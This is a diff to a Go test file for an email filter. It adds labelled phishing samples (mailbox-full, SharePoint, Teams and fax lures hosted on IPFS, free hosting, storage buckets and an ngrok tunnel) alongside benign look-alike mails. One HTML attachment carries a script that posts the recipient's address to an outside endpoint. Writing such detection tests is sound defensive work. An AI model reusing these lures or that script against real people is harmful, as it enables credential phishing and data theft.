@@ -69,6 +69,40 @@ func links() []Sample {
 		w("heuristic", "recipient-in-link", "2")),
 		linkMail("Shared: Q4 bonus.xlsx", `<p>A file was shared with you. <a href="https://storage.googleapis.com/bkt-8823/index.html#a2VuamlAY29ycC5leGFtcGxlLmpw">View document</a></p>`))
 
+	// --- Phishing pages on IPFS, free hosting and tunnels ---
+	add(bad("url-ipfs-mailbox-full", "a mailbox-full lure to a sign-in page on IPFS through a subdomain gateway, the recipient's address after #", policy.Quarantine,
+		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2"), w("heuristic", "recipient-in-link", "2")),
+		linkMail("Your mailbox is full", `<p>Your mailbox kenji@corp.example.jp is 98% full. Incoming mail will be returned.</p>`+
+			`<p><a href="https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/#kenji@corp.example.jp">Sign in to keep your mail</a></p>`))
+
+	add(bad("url-ipfs-webmail-page", "a mailbox-full lure to webmail.html on IPFS through a path gateway", policy.Quarantine,
+		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
+		linkMail("Your mailbox is full", `<p>Your mailbox is 98% full.</p><p><a href="https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/webmail.html">Keep my mail</a></p>`))
+
+	add(bad("url-pages-dev-sharepoint", "a SharePoint lure to a Cloudflare Pages site whose name carries the brand with a random tail, which no lookalike rule reads", policy.Tag,
+		w("heuristic", "free-hosting-lure", "2")),
+		linkMail(`Kenji shared "Q4 Payroll.xlsx" with you`, `<p>Kenji Sato shared a file with you.</p><p><a href="https://sharepoint-doc-7f3a.pages.dev/">Open in SharePoint</a></p>`))
+
+	add(bad("url-hosting-brand-text", "a Teams lure to an app on Vercel with a neutral name, the link's text naming the brand", policy.Tag,
+		w("heuristic", "free-hosting-lure", "2")),
+		linkMail("You have 3 unread messages", `<p>You have 3 unread messages in Microsoft Teams.</p><p><a href="https://team-chat-84aa.vercel.app/">Open Microsoft Teams</a></p>`))
+
+	add(bad("url-bucket-brand-page", "an Adobe lure to a web page named after the brand in a Firebase storage bucket", policy.Quarantine,
+		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
+		linkMail("You have received a document", `<p>A PDF was shared with you via Adobe Document Cloud.</p>`+
+			`<p><a href="https://firebasestorage.googleapis.com/v0/b/xyz-8823.appspot.com/o/adobe.html?alt=media&amp;token=0b1c2d3e">Open PDF</a></p>`))
+
+	add(bad("url-tunnel-recipient", "an unusual-sign-in lure through an ngrok tunnel, the recipient's address in the query", policy.Quarantine,
+		w("heuristic", "anonymous-host-link", "2"), w("heuristic", "free-hosting-lure", "2")),
+		linkMail("Unusual sign-in activity", `<p>We detected unusual sign-in activity.</p><p><a href="https://8f3a-203-0-113-7.ngrok-free.app/common/login?u=kenji@corp.example.jp">Review activity</a></p>`))
+
+	add(bad("html-attachment-script-to-workers", "an HTML attachment without a password field whose script sends the recipient's address to a Cloudflare Workers endpoint", policy.Tag,
+		w("heuristic", "free-hosting-lure", "2")),
+		mail{subject: "Incoming fax: 3 pages", root: multipart("mixed",
+			text("You received a fax (3 pages). Open the attached document to view it.\n"),
+			attach("text/html", "Fax_3pages.html", []byte(`<html><body><h3>Document</h3><p>Loading document...</p>`+
+				`<script>fetch("https://api-7f3a.workers.dev/c",{method:"POST",body:JSON.stringify({e:"kenji@corp.example.jp"})})</script></body></html>`)))})
+
 	// --- Honest mail like them ---
 	add(ok("newsletter-recipient-in-query", "a newsletter whose unsubscribe and preference links carry the recipient's address in their query"),
 		linkMail("November news", `<p>News of the month.</p><p><a href="https://news.example-esp.com/unsubscribe?email=kenji%40corp.example.jp&amp;list=7">Unsubscribe</a> · `+
@@ -84,6 +118,33 @@ func links() []Sample {
 			text("Autumn sale: https://shop.example.com/sale\n"),
 			html(`<p><a href="https://click.shop.example.com/c?id=1&amp;url=https%3A%2F%2Fshop.example.com%2Fsale">shop.example.com/sale</a></p>`+
 				`<p><a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.org%2Fterms&amp;data=05%7C01">Terms</a></p>`))})
+
+	add(ok("hosting-project-docs", "a release mail linking project docs on GitHub Pages, Microsoft's handbook on its own GitHub account among them"),
+		linkMail("Docs for the 2.0 release", `<p>The new docs are up: <a href="https://kensa-milter.github.io/kensa/install/">kensa-milter.github.io/kensa</a>. `+
+			`The TypeScript handbook is at <a href="https://microsoft.github.io/TypeScript-New-Handbook/">Microsoft TypeScript handbook</a>.</p>`))
+
+	add(ok("hosting-developer-demo", "a developer's mail linking a sign-in demo on Vercel, a Netlify deploy preview and an API on Render and Heroku"),
+		linkMail("Demo of the login flow", `<p>Here is the demo of the new sign-in page: <a href="https://nextjs-auth-login-demo.vercel.app/login">nextjs-auth-login-demo.vercel.app</a>, `+
+			`the docs preview <a href="https://deploy-preview-42--kensa-docs.netlify.app/">deploy preview 42</a>, `+
+			`<a href="https://kensa-api.onrender.com/health">the API's health</a> and <a href="https://acme-billing-api.herokuapp.com/status">billing API status</a>.</p>`))
+
+	add(ok("hosting-bucket-files", "a dataset release linking files in Google Cloud Storage and S3 buckets, Google's own archive among them"),
+		linkMail("Dataset release", `<p>The dataset is at <a href="https://storage.googleapis.com/public-datasets-research/2026/survey.csv">survey.csv</a> and the report at `+
+			`<a href="https://storage.googleapis.com/public-datasets-research/2026/report.pdf">the report</a>. The old tool: `+
+			`<a href="https://storage.googleapis.com/google-code-archive-downloads/v2/code.google.com/tools/tool-1.0.zip">download</a>; `+
+			`checksums: <a href="https://acme-releases.s3.amazonaws.com/v2.1/SHA256SUMS">SHA256SUMS</a>.</p>`))
+
+	add(ok("hosting-event-site", "an offsite invitation linking a Google Sites page, an office-hours page, a Microsoft Forms survey and a Google Form"),
+		linkMail("Team offsite 2026", `<p>Agenda and travel details: <a href="https://sites.google.com/view/team-offsite-2026/home">offsite site</a>. `+
+			`Office hours: <a href="https://sites.google.com/view/office-hours-2026">Office hours</a>. `+
+			`Sign up: <a href="https://forms.office.com/r/Ab12Cd34Ef">Lunch survey</a> or <a href="https://docs.google.com/forms/d/e/1FAIpQLSf-example/viewform">Google Form</a>.</p>`))
+
+	add(ok("hosting-firebase-verify", "Firebase's address verification mail: from the app's own firebaseapp.com site, to its sign-in action page there"),
+		mail{from: "noreply@acme-app-12345.firebaseapp.com", subject: "Verify your email for Acme", root: multipart("alternative",
+			text("Follow this link to verify your email address.\nhttps://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&oobCode=AbCdEf&apiKey=AIzaSyExample&lang=en\n"),
+			html(`<p>Hello,</p><p>Follow this link to verify your email address.</p>`+
+				`<p><a href="https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&amp;oobCode=AbCdEf&amp;apiKey=AIzaSyExample&amp;lang=en">`+
+				`https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&amp;oobCode=AbCdEf</a></p>`))})
 
 	add(ok("idn-domain", "a link to an honest internationalised domain name"),
 		linkMail("Buchbestellung", `<p>Ihre Bestellung bei <a href="https://www.bücher-müller.example/bestellung/42">bücher-müller.example</a> ist unterwegs.</p>`))
